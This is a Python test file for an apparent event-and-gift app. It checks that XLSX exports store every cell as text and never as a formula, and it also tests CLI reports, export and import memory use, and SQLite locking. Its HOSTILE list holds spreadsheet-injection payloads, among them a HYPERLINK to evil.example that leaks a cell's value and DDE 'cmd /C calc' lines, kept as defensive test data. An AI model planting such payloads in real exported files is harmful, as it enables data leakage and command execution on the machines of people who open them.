"""What goes out: every exported cell is data (never a formula, never a control character), the
reports from the command line are the app's, and export / import memory stays flat with size.

Memory is measured in a child process (its own peak RSS), on moderate sizes; the large figures
(750,000 rows) are in the README, measured with the same scripts."""

from __future__ import annotations

import datetime as dt
import json
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from fieldapp.cli import main
from fieldapp.services.gifts import GiftTypeInput, HandoverInput
from fieldapp.store.db import Store
from fieldapp.store.models import Event, Person, Scan

T0 = dt.datetime(2025, 9, 23, 6, 0, tzinfo=dt.UTC)
# OWASP's CSV-injection cases, and a name stored with control characters before names were cleaned
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B9,"اضغط هنا")',
    "+966501234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "سعد\x01\x1b[31m العمري",
]


def _event_with_hostile_names(store: Store, services) -> str:
    with store.session("test") as s:
        event = Event(title="فعالية =1+1", starts_at=T0, ends_at=T0 + dt.timedelta(hours=8))
        s.add(event)
        people = [Person(full_name=name, national_id=None) for name in HOSTILE]
        s.add_all(people)
        s.flush()
        s.add_all(
            Scan(
                person_id=p.id,
                event_id=event.id,
                direction="in",
                at=T0 + dt.timedelta(minutes=5),
                method="manual",
            )
            for p in people
        )
        event_id, person_ids = event.id, [p.id for p in people]
    gift = services.gifts.create_type(GiftTypeInput("=cmd|' /C calc'!A0", "@قطعة"))
    services.gifts.receive(gift.id, 100, "توريد من المستودع")
    for pid in person_ids:
        services.gifts.hand_over(
            HandoverInput(gift.id, 1, recipient_person_id=pid, event_id=event_id, note="-1+1")
        )
    return event_id


def _all_cells(path: Path) -> list:
    return [cell for row in load_workbook(path).active.iter_rows() for cell in row if cell.value is not None]


def _no_formulas(path: Path) -> None:
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet


def test_every_exported_cell_is_data_never_a_formula(services, store, tmp_path, cli_user):
    event_id = _event_with_hostile_names(store, services)
    store.close()
    cli_user(tmp_path, "coordinator")
    data = ["--data-dir", str(tmp_path)]
    attendance, gifts = tmp_path / "attendance.xlsx", tmp_path / "gifts.xlsx"
    assert main([*data, "report", "attendance", "--event", event_id, "--xlsx", str(attendance)]) == 0
    assert main([*data, "report", "gifts", "--event", event_id, "--xlsx", str(gifts)]) == 0
    for path in (attendance, gifts):
        _no_formulas(path)
        cells = _all_cells(path)
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert HOSTILE[0] in texts and "+966501234567" in texts  # as typed, as text
        for cell in cells:
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not any(ch < " " and ch not in "\t\n" for ch in cell.value), cell.value
                if cell.value.lstrip().startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix, cell.value  # stays text when edited in Excel
    assert "سعد[31m العمري" in {c.value for c in _all_cells(attendance)}


def test_reports_from_the_command_line_are_the_apps(services, store, tmp_path, capsys, cli_user):
    event_id = _event_with_hostile_names(store, services)
    store.close()
    cli_user(tmp_path, "coordinator")
    data = ["--data-dir", str(tmp_path), "--lang", "en"]
    pdf = tmp_path / "out" / "attendance.pdf"
    assert main([*data, "report", "attendance", "--event", event_id, "--pdf", str(pdf)]) == 0
    assert "Wrote:" in capsys.readouterr().out
    assert len(PdfReader(pdf).pages) >= 1
    all_gifts = tmp_path / "all-gifts.pdf"
    assert main([*data, "report", "gifts", "--pdf", str(all_gifts)]) == 0
    assert "\x00" not in "".join(page.extract_text() for page in PdfReader(all_gifts).pages)
    assert main([*data, "report", "attendance", "--event", "nope", "--xlsx", str(tmp_path / "x.xlsx")]) == 2
    assert "nope" in capsys.readouterr().err
    with pytest.raises(SystemExit):  # --xlsx or --pdf, one of them
        main([*data, "report", "gifts", "--xlsx", "a.xlsx", "--pdf", "a.pdf"])


# --- memory, measured in a child process ---------------------------------------------------------

_MEASURE = textwrap.dedent(
    """
    import sys
    from fieldapp.cli import main

    def peak_kb():  # VmHWM: ru_maxrss would carry the parent's peak over the exec
        with open("/proc/self/status") as status:
            return next(int(line.split()[1]) for line in status if line.startswith("VmHWM"))

    before = peak_kb()
    if sys.argv[1] == "import":
        from fieldapp.core.permissions import Actor
        from fieldapp.services import Services, roster_import
        from fieldapp.store.db import Store
        roster_import.CHUNK_ROWS = 1000  # what is held per chunk is bounded; the rest must not grow
        store = Store.open(sys.argv[2])
        report = Services(store, Actor("t", "admin")).roster_import.run(sys.argv[3], dry_run=True)
        assert report.added > 0, report
    else:
        assert main(["--data-dir", sys.argv[2], "export", "--json", "--out", sys.argv[3]]) == 0
    print((peak_kb() - before) // 1024)
    """
)


def _growth_mb(*args: str) -> int:
    """Peak RSS the work added in a fresh process, in MB."""
    done = subprocess.run([sys.executable, "-c", _MEASURE, *args], capture_output=True, text=True, check=True)
    return int(done.stdout.split()[-1])


def _fill(db: Path, people: int) -> None:
    store = Store.open(db)
    store.close()
    import sqlite3

    with sqlite3.connect(db) as conn:
        conn.executemany(
            "INSERT INTO person (id, device_id, created_hlc, updated_hlc, deleted, field_hlc, full_name,"
            " national_id, mobile, guardian_consent, notes, name_key)"
            " VALUES (?, 'd', 'h', 'h', 0, '{}', ?, NULL, ?, 0, ?, ?)",
            (
                (f"id-{i}", f"متطوع رقم {i} بن خميس الزايدي", f"+9665{i:08d}", "ملاحظة " * 10, f"متطوع {i}")
                for i in range(people)
            ),
        )


def test_export_memory_stays_flat_whatever_the_size(tmp_path, cli_user):
    small, big = tmp_path / "small", tmp_path / "big"
    _fill(small / "fieldapp.db", 1_000)
    _fill(big / "fieldapp.db", 15_000)  # about 6 MB of JSON
    cli_user(small)  # the export process signs in as an administrator (from its environment)
    cli_user(big)
    small_mb = _growth_mb("export", str(small), str(tmp_path / "small.json"))
    big_mb = _growth_mb("export", str(big), str(tmp_path / "big.json"))
    document = json.loads((tmp_path / "big.json").read_text(encoding="utf-8"))
    assert document["counts"]["person"] == 15_000 == len(document["tables"]["person"])
    assert big_mb - small_mb < 6, (small_mb, big_mb)  # holding the rows took ~25 MB more


def test_a_roster_import_streams_its_file(tmp_path):
    def roster(path: Path, rows: int) -> Path:
        lines = ["الاسم,الجوال,ملاحظات"] + [
            f"متطوع رقم {i} بن خميس,05{i:08d},{'ملاحظة ' * 20}" for i in range(rows)
        ]
        path.write_text("\n".join(lines), encoding="utf-8")
        return path

    small_mb = _growth_mb("import", str(tmp_path / "a.db"), str(roster(tmp_path / "small.csv", 1_000)))
    big_mb = _growth_mb("import", str(tmp_path / "b.db"), str(roster(tmp_path / "big.csv", 15_000)))
    # What is kept per row is the mobile seen (to refuse a second row with it): ~0.15 KB. Holding
    # the file's text, its rows and the people read (as before) took ~1.5 KB a row.
    assert big_mb - small_mb < 6, (small_mb, big_mb)


def test_a_long_read_elsewhere_never_stalls_the_writes_of_a_closing_store(tmp_path):
    """An export holds one read snapshot for its whole run; a command that closes its store
    meanwhile (every `fieldapp scan`) must not hold the writer lock waiting for it to end."""
    import sqlite3
    import threading
    import time

    db = tmp_path / "fieldapp.db"
    Store.open(db).close()
    exporter = sqlite3.connect(db, isolation_level=None)
    exporter.execute("BEGIN")
    exporter.execute("SELECT count(*) FROM person").fetchone()  # the export's snapshot
    closing = Store.open(db)
    with closing.session("test") as s:
        s.add(Person(full_name="سعد العمري", mobile="+966501234567"))  # the snapshot is now old
    waited: list[float] = []

    def scan_elsewhere() -> None:
        time.sleep(0.2)  # while the store closes
        desk = sqlite3.connect(db, isolation_level=None, timeout=10)
        start = time.perf_counter()
        desk.execute("UPDATE device SET last_hlc = last_hlc")
        waited.append(time.perf_counter() - start)
        desk.close()

    desk = threading.Thread(target=scan_elsewhere)
    desk.start()
    start = time.perf_counter()
    closing.close()
    closed_in = time.perf_counter() - start
    desk.join()
    exporter.execute("COMMIT")
    assert closed_in < 5 and waited[0] < 5, (closed_in, waited)  # it was the whole 10 s busy timeout
